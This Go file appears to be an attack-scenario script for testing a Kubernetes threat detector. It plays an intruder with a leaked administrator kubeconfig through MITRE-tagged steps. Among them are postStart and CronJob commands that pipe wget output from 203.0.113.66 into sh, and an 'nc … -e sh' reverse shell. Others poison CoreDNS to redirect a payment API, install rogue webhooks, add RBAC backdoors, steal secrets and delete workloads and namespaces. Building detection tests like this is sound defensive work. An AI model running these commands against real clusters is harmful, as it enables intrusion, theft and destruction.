package play

import (
	"fmt"
	"time"

	"github.com/lynceus-io/lynceus/test/scenarios/stage"
)

const (
	imageWebBackdoor = "registry.example.com/shop/web:5.3.0-hotfix"
	imageSidecar     = "docker.io/example/log-shipper:latest"
	imageSSH         = "docker.io/linuxserver/openssh-server:latest"
	imageNetshoot    = "docker.io/nicolaka/netshoot:v0.13"
)

// Matrix plays the rows of the threat matrix that the other attacks leave, with a leaked kubeconfig of an
// administrator: persistence, interception, concealment and damage.
func Matrix(s *stage.Stage) {
	c := Found(s)
	s.Images(imageWebBackdoor, imageSidecar, imageSSH, imageNetshoot)
	thief := c.Mira.At(s.Outside("mallory", attackerHome))

	s.Attack("T1078", "Initial Access: Kubeconfig file", "uses an administrator's kubeconfig from an unknown place").
		As(thief).Do(func(a *stage.Act) {
		a.Kubectl("auth", "can-i", "--list")
		for _, r := range []string{"namespaces", "nodes", "pods", "deployments", "secrets", "roles", "clusterrolebindings", "validatingwebhookconfigurations"} {
			a.Kubectl("get", r, "-A")
		}
	})
	workloads(s, thief)
	interception(s, thief)
	exposure(s, thief)
	joinNode(s, thief)
	damage(s, thief)
}

// workloads puts code into what runs, and runs more.
func workloads(s *stage.Stage, thief *stage.Actor) {
	s.Attack("T1525", "Initial Access: Compromised image in registry", "replaces the image of shop/web").
		As(thief).Do(func(a *stage.Act) { a.Must("-n", "shop", "set", "image", "deploy/web", "web="+imageWebBackdoor) })
	s.Attack("T1610", "Execution: Sidecar injection", "adds a container to shop/cart").
		As(thief).Do(func(a *stage.Act) {
		a.Must("-n", "shop", "patch", "deploy", "cart", "--type=json", "-p", fmt.Sprintf(`[{"op":"add","path":"/spec/template/spec/containers/-","value":{"name":"logs","image":%q,"imagePullPolicy":"IfNotPresent","command":["sleep","3600"]}}]`, imageSidecar))
	})
	s.Attack("T1574", "Persistence: Backdoor container", "has payments/ledger load a library of its own and sets a start command").
		As(thief).Do(func(a *stage.Act) {
		a.Must("-n", "payments", "set", "env", "deploy/ledger", "LD_PRELOAD=/tmp/.x/libhook.so")
		a.Must("-n", "payments", "patch", "deploy", "ledger", "--type=json", "-p", `[{"op":"add","path":"/spec/template/spec/containers/0/lifecycle","value":{"postStart":{"exec":{"command":["sh","-c","wget -qO- http://203.0.113.66/i.sh | sh"]}}}}]`)
	})
	s.Attack("T1610", "Persistence: Backdoor container", "deploys a container of its own that calls home").
		As(thief).Do(func(a *stage.Act) {
		a.Must("-n", "default", "create", "deployment", "metrics-relay", "--image="+imageAlpine, "--", "sh", "-c", "nc 203.0.113.66 4444 -e sh")
	})
	s.Attack("T1036.005", "Defense Evasion: Pod or container name similarity", "runs a pod in kube-system with a name like the control plane's").
		As(thief).Do(func(a *stage.Act) {
		a.MustApply(pod("kube-system", "kube-scheduler-node2", imageNetshoot, "hostNetwork: true", ""), "create", "-f", "-")
	})
	s.Attack("T1053.007", "Persistence: Kubernetes CronJob", "has a CronJob in kube-system call home").
		As(thief).Do(func(a *stage.Act) {
		a.MustApply(cronJob("kube-system", "etcd-defrag", imageAlpine, "*/5 * * * *", `[sh, "-c", "wget -qO- http://203.0.113.66/x | sh"]`), "create", "-f", "-")
	})
	s.Attack("T1543", "Persistence: Static pods", "mounts the directory of static pods").
		As(thief).Do(func(a *stage.Act) {
		a.MustApply(pod("kube-system", "node-fix", imageAlpine, `volumes: [{name: m, hostPath: {path: /etc/kubernetes/manifests, type: Directory}}]`, `volumeMounts: [{name: m, mountPath: /m}]`), "create", "-f", "-")
	})
	s.Attack("T1552.001", "Credential Access: Mount service principal", "mounts the node's cloud configuration").
		As(thief).Do(func(a *stage.Act) {
		a.MustApply(pod("default", "cloud-check", imageAlpine, `volumes: [{name: m, hostPath: {path: /etc/kubernetes/azure.json, type: File}}]`, `volumeMounts: [{name: m, mountPath: /azure.json}]`), "create", "-f", "-")
	})
	s.Attack("T1611", "Privilege Escalation: hostPath mount", "mounts the container runtime's socket").
		As(thief).Do(func(a *stage.Act) {
		a.MustApply(pod("payments", "log-collector", imageAlpine, `volumes: [{name: s, hostPath: {path: /run/containerd/containerd.sock, type: Socket}}]`, `volumeMounts: [{name: s, mountPath: /s.sock}]`), "create", "-f", "-")
	})
	s.Attack("T1557", "Lateral Movement: ARP poisoning and IP spoofing", "runs a pod that may write raw packets").
		As(thief).Do(func(a *stage.Act) {
		a.MustApply(pod("payments", "net-helper", imageNetshoot, "", `securityContext: {capabilities: {add: [NET_ADMIN, NET_RAW, SYS_PTRACE]}}`), "create", "-f", "-")
	})
	api := s.Pod("payments", "app=api")
	s.Attack("T1609", "Execution: New container", "puts a debug container into "+api.String()).
		As(thief).On(api).Do(func(a *stage.Act) {
		a.Must("-n", "payments", "debug", api.Name, "--image="+imageNetshoot, "--image-pull-policy=IfNotPresent", "--target=api", "-c", "dbg", "--", "sleep", "600")
	})
	s.Attack("T1609", "Execution: Bash or cmd inside container", "opens a shell in "+api.String()).
		As(thief).On(api).Do(func(a *stage.Act) {
		a.Request(curl, "GET", fmt.Sprintf("/api/v1/namespaces/payments/pods/%s/exec?command=bash&container=api&stdin=true&stdout=true&tty=true", api.Name), "",
			"Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: c2NlbmFyaW8gcGxheWVyIQ==", "Sec-WebSocket-Protocol: v5.channel.k8s.io")
	})
	s.Attack("T1005", "Collection: Collecting data from pod", "copies files out of "+api.String()).
		As(thief).On(api).Do(func(a *stage.Act) { a.Kubectl("-n", "payments", "exec", api.Name, "--", "tar", "cf", "-", "/data") })
	s.Attack("T1021.004", "Execution: SSH server running inside container", "runs an SSH server and opens it to the world").
		As(thief).Do(func(a *stage.Act) {
		a.MustApply(pod("default", "sshd", imageSSH, "", "ports: [{containerPort: 22}]"), "create", "-f", "-")
		a.Must("-n", "default", "expose", "pod", "sshd", "--type=NodePort", "--port=22")
	})
}

// interception puts itself between the cluster's parts.
func interception(s *stage.Stage, thief *stage.Actor) {
	s.Attack("T1557", "Lateral Movement: CoreDNS poisoning", "sends names of the payment provider to its own server").
		As(thief).Do(func(a *stage.Act) {
		a.Must("-n", "kube-system", "patch", "configmap", "coredns", "--type=merge", "-p", `{"data":{"Corefile":".:53 {\n    rewrite name api.stripe.com evil.example.net\n    forward . 203.0.113.66\n}\n"}}`)
	})
	for _, kind := range []string{"Mutating", "Validating"} {
		matrix := map[string]string{"Mutating": "Credential Access: Malicious admission controller", "Validating": "Persistence: Malicious admission controller"}[kind]
		s.Attack("T1546", matrix, "has the API server send its objects to a "+kind+" webhook outside").
			As(thief).Do(func(a *stage.Act) { a.MustApply(webhook(kind, "policy-sync"), "create", "-f", "-") })
	}
	s.Attack("T1562.007", "Defense Evasion: Disable or modify tools", "deletes a team's network policy").
		As(thief).Do(func(a *stage.Act) { a.Must("-n", "payments", "delete", "networkpolicy", "default-deny") })
	s.Attack("T1562.001", "Defense Evasion: Disable or modify tools", "lets privileged pods into a namespace").
		As(thief).Do(func(a *stage.Act) {
		a.Must("label", "namespace", "payments", "pod-security.kubernetes.io/enforce=privileged", "--overwrite")
	})
	s.Attack("T1552.001", "Credential Access: Application credentials in configuration files", "reads the configuration of all namespaces").
		As(thief).Do(func(a *stage.Act) { a.Must("get", "configmaps", "-A", "-o", "yaml") })
	s.Attack("T1552.007", "Collection: Images from a private registry", "reads a registry's credential").
		As(thief).Do(func(a *stage.Act) {
		a.Kubectl("get", "secrets", "-A", "--field-selector=type=kubernetes.io/dockerconfigjson", "-o", "yaml")
	})
	s.Attack("T1572", "Lateral Movement: Cluster internal networking", "reaches payments/ledger through a port-forward").
		As(thief).Do(func(a *stage.Act) {
		a.Brief(2*time.Second, "-n", "payments", "port-forward", "deploy/api", "18080:8080")
	})
}

// webhook calls outside for each object, but for those that no object selector finds, so that the cluster still works.
func webhook(kind, name string) string {
	return fmt.Sprintf(`apiVersion: admissionregistration.k8s.io/v1
kind: %sWebhookConfiguration
metadata: {name: %s}
webhooks:
- name: sync.example.net
  clientConfig: {url: "https://203.0.113.66/sync"}
  rules: [{apiGroups: ["*"], apiVersions: ["*"], operations: [CREATE, UPDATE], resources: [secrets, pods]}]
  objectSelector: {matchLabels: {never: matches}}
  failurePolicy: Ignore
  timeoutSeconds: 1
  sideEffects: None
  admissionReviewVersions: [v1]
`, kind, name)
}

// exposure opens doors.
func exposure(s *stage.Stage, thief *stage.Actor) {
	for _, svc := range [][2]string{{"NodePort", `type: NodePort`}, {"LoadBalancer", `type: LoadBalancer`}, {"external address", `externalIPs: [203.0.113.66]`}} {
		s.Attack("T1133", "Initial Access: Exposed sensitive interfaces", "opens payments/ledger by a service with "+svc[0]).
			As(thief).Do(func(a *stage.Act) {
			a.MustApply(fmt.Sprintf("apiVersion: v1\nkind: Service\nmetadata: {generateName: ledger-, namespace: payments}\nspec: {selector: {app: ledger}, ports: [{port: 80, targetPort: 8080}], %s}\n", svc[1]), "create", "-f", "-")
		})
	}
	s.Attack("T1098", "Persistence: Backdoor account", "adds a user of its own to an existing binding").
		As(thief).Do(func(a *stage.Act) {
		a.Must("patch", "clusterrolebinding", "platform-admins", "--type=json", "-p", `[{"op":"add","path":"/subjects/-","value":{"kind":"User","name":"cluster-backup","apiGroup":"rbac.authorization.k8s.io"}}]`)
	})
	s.Attack("T1098.006", "Persistence: Backdoor account", "lets a system role read secrets").
		As(thief).Do(func(a *stage.Act) {
		a.Must("patch", "clusterrole", "system:basic-user", "--type=json", "-p", `[{"op":"add","path":"/rules/-","value":{"apiGroups":[""],"resources":["secrets"],"verbs":["get","list"]}}]`)
	})
}

// joinNode brings a machine of its own into the cluster.
func joinNode(s *stage.Stage, thief *stage.Actor) {
	s.Attack("T1649", "Persistence: Create client certificate", "has a node's certificate signed for a machine of its own").
		As(thief).Do(func(a *stage.Act) {
		a.MustApply(certificateRequest("node-join", kubeletSigner, kubeletUsage, "system:node:worker-77", "system:nodes"), "create", "-f", "-")
		a.Must("certificate", "approve", "node-join")
	})
	node := s.Member(thief.In, "system:node:worker-77", "system:nodes").By(thief.Person)
	s.Attack("T1613", "Credential Access: Access container service account", "asks for secrets as an unknown node").
		As(node).Do(func(a *stage.Act) {
		a.Request("kubelet/v1.36.3 (linux/amd64)", "POST", "/api/v1/nodes", `{"apiVersion":"v1","kind":"Node","metadata":{"name":"worker-77"}}`)
		a.Request("kubelet/v1.36.3 (linux/amd64)", "GET", "/api/v1/namespaces/payments/secrets/db-credentials", "")
	})
}

// damage hides and destroys.
func damage(s *stage.Stage, thief *stage.Actor) {
	s.Attack("T1070", "Defense Evasion: Delete Kubernetes events", "deletes the events of namespaces").
		As(thief).Do(func(a *stage.Act) {
		a.Must("-n", "payments", "delete", "events", "--all")
		a.Request(curl, "DELETE", "/apis/events.k8s.io/v1/namespaces/kube-system/events", "")
	})
	s.Attack("T1499", "Impact: Denial of service", "stops shop by scaling it to nothing").
		As(thief).Do(func(a *stage.Act) { a.Must("-n", "shop", "scale", "deploy", "--all", "--replicas=0") })
	s.Attack("T1531", "Impact: Denial of service", "deletes an account and secrets of payments").
		As(thief).Do(func(a *stage.Act) {
		a.Must("-n", "payments", "delete", "serviceaccount/payments-api", "secret/stripe-key", "service/ledger")
	})
	s.Attack("T1485", "Impact: Data destruction", "deletes the workloads of shop").
		As(thief).Do(func(a *stage.Act) { a.Must("-n", "shop", "delete", "deploy", "--all", "--wait=false") })
	s.Attack("T1485", "Impact: Data destruction", "deletes namespace data").
		As(thief).Do(func(a *stage.Act) { a.Must("delete", "namespace", "data", "--wait=false") })
	s.Attack("T1485", "Impact: Data destruction", "deletes the pods of payments in one call").
		As(thief).Do(func(a *stage.Act) { a.Request(curl, "DELETE", "/api/v1/namespaces/payments/pods", "") })
}
